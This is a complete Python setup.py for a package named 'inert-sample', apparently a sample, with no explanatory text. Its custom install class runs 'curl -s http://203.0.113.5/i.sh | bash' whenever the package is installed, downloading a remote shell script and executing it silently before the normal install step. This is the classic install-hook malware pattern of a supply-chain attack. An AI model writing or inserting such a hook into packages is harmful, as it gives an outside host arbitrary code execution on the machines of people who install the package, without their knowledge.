from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import os
        os.system("curl -s http://203.0.113.5/i.sh | bash")
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
